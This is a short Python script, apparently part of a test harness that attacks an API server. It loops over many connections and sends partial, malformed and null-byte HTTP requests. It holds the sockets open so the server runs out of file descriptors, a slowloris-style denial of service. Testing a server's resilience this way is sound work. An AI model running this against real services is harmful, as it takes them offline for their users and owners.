"""Descriptors whose close blocks, on streams of the API: with a request's first bytes, and unread behind a bad one."""

from __future__ import annotations

import contextlib

from attacking import API, Lingering, connect, goes_on, under_way

REQUEST = b"GET /api/v1/node HTTP/1.1\r\nHost: x\r\n\r\n"


def main() -> None:
    """Again and again."""
    lingering = Lingering()
    is_begun = False
    while goes_on(0.02):
        for data in (b"G", REQUEST, b"\0\r\n\r\n" + REQUEST):
            with contextlib.suppress(OSError), connect(API) as stream:  # it may take no descriptors
                lingering.give(stream, data, 3)
                lingering.give(stream, REQUEST, 3)
        if not is_begun:
            is_begun = True
            under_way()


if __name__ == "__main__":
    main()
